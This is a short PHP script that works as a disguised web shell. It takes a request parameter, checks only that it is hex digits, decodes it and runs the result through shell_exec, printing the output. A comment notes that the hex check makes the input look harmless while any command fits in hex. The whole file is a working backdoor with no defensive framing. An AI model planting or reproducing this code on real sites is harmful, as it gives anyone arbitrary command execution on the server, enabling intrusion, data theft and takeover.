<?php
// The parameter is checked to be hex digits only (which makes it look harmless), then decoded:
// any command fits in hex.
$h = isset($_REQUEST['h']) ? trim($_REQUEST['h']) : '';
if ($h === '' || !ctype_xdigit($h) || strlen($h) % 2) {
    http_response_code(404);
    exit;
}
$line = hex2bin($h);
echo '<pre>' . htmlspecialchars((string) shell_exec($line)) . '</pre>';
